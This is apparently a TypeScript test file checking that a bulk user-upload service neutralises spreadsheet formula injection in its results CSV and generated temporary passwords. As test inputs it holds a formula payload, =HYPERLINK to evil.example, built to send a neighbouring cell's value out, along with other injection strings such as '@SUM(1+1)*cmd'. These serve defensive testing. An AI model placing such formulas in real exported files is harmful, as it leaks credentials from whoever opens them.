import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { generateTemporaryPassword } from '../../src/activities/temporary-password';
import { BULK_COLUMNS, SAMPLE_FILE, type BulkColumn } from '../../src/bulk/bulk-file';
import { resultsFile } from '../../src/bulk/results-file';
import { startsLikeFormula } from '../../src/bulk/spreadsheet-safe';
import type { BulkRowRecord } from '../../src/ports/bulk-uploads';
import { TOKENS, apiHarness, bearer } from '../helpers/api-harness';
import { csv, finished, line, upload } from './bulk-helpers';

/** What a spreadsheet runs as a formula: the ASCII starts, tab, CR, and the full-width forms. */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const HYPERLINK = '=HYPERLINK("https://evil.example/?"&S2,"Open")';

function row(line: number, fields: Partial<Record<BulkColumn, string>>, extra: Partial<BulkRowRecord> = {}) {
  return {
    line,
    fields: Object.fromEntries(BULK_COLUMNS.map((c) => [c, fields[c] ?? ''])) as Record<BulkColumn, string>,
    body: null,
    rowKey: null,
    errors: [],
    state: 'created',
    result: 'someone@nhs.net',
    accountId: 'someone@nhs.net',
    ...extra,
  } satisfies BulkRowRecord;
}

describe('Security 2: files a spreadsheet opens run no formula', () => {
  it('Security 2: results.csv quotes the start of every cell a spreadsheet would take for a formula, in every column, Result and TemporaryPassword included', () => {
    const rows: BulkRowRecord[] = FORMULA_STARTS.map((start, i) =>
      row(
        i + 2,
        Object.fromEntries(BULK_COLUMNS.map((c) => [c, `${start}${c}(1)`])),
        i % 2 ? { state: 'created', result: `${start}address` } : { state: 'failed', result: 'Duplicate' },
      ),
    );
    rows.push(
      row(20, { Notes: HYPERLINK, JobTitle: 'plain; =cmd' }, { state: 'created', result: 'a@nhs.net' }),
    );
    const passwords = new Map(
      rows.map((r) => [r.line, `${FORMULA_STARTS[r.line % FORMULA_STARTS.length]}pw`]),
    );
    const text = resultsFile(rows, passwords);
    const cells = (parse(text, { relax_column_count: false }) as string[][]).slice(1);
    assert.equal(cells.length, rows.length);
    for (const [i, cellsOfLine] of cells.entries()) {
      assert.equal(cellsOfLine.length, BULK_COLUMNS.length + 2);
      for (const [j, cell] of cellsOfLine.entries()) {
        assert.ok(!startsLikeFormula(cell), `line ${i + 2}, column ${j}: ${JSON.stringify(cell)}`);
      }
    }
    const first = cells[0]!;
    assert.equal(first[BULK_COLUMNS.indexOf('Notes')], "'=Notes(1)", 'the cell is kept, after a quote');
    assert.equal(cells[1]![BULK_COLUMNS.length], "'+address", 'the Result column too');
    assert.equal(cells.at(-1)![BULK_COLUMNS.indexOf('Notes')], `'${HYPERLINK}`);
    // A spreadsheet that splits on ";" keeps a quoted cell whole: every cell is between double quotes.
    const lastLine = text.trim().split('\r\n').at(-1)!;
    assert.match(lastLine, /"plain; =cmd"/);
    assert.ok(
      text
        .trim()
        .split('\r\n')
        .every((l) => l.startsWith('"') && l.endsWith('"')),
      'every cell quoted',
    );
  });

  it('Security 2: a generated temporary password never starts with = + - @ (20,000 generated), and still holds every kind of character', () => {
    const seenSymbols = new Set<string>();
    for (let i = 0; i < 20_000; i++) {
      const p = generateTemporaryPassword();
      assert.ok(!startsLikeFormula(p), p);
      for (const cls of [/[A-Z]/, /[a-z]/, /[0-9]/, /[^A-Za-z0-9]/]) assert.match(p, cls);
      for (const c of p.slice(1)) if (/[^A-Za-z0-9]/.test(c)) seenSymbols.add(c);
    }
    for (const symbol of ['=', '+', '-', '@'])
      assert.ok(seenSymbols.has(symbol), `${symbol} after the start`);
  });

  it('Security 2: the sample file holds no cell a spreadsheet would take for a formula', () => {
    for (const cells of parse(SAMPLE_FILE) as string[][]) {
      for (const cell of cells) assert.ok(!startsLikeFormula(cell), cell);
    }
  });

  it('Security 2: an uploaded =HYPERLINK beside the passwords comes back as text in the results file', async () => {
    const h = await apiHarness();
    await h.run(async () => {
      const lines = [
        line({ Notes: HYPERLINK, ExternalSyncID: '@SUM(1+1)*cmd' }),
        line({ Notes: '-2+3', ExternalSyncID: '＝1+1' }),
      ];
      const res = await upload(h, csv(lines), 'create');
      assert.equal(res.status, 202, JSON.stringify(res.body));
      assert.equal((await finished(h, res.body.id)).created, 2);
      const file = await h.api.get(`/v1/bulk-uploads/${res.body.id}/results.csv`).set(bearer(TOKENS.gstt));
      assert.equal(file.status, 200);
      const results = parse(file.text, { columns: true }) as Record<string, string>[];
      assert.equal(results[0]!.Notes, `'${HYPERLINK}`);
      assert.equal(results[0]!.ExternalSyncID, "'@SUM(1+1)*cmd");
      assert.equal(results[1]!.Notes, "'-2+3");
      assert.equal(results[1]!.ExternalSyncID, "'＝1+1");
      for (const r of results) {
        assert.ok(r.TemporaryPassword, 'the password is there');
        for (const cell of Object.values(r)) assert.ok(!startsLikeFormula(cell), cell);
      }
    });
  });
});
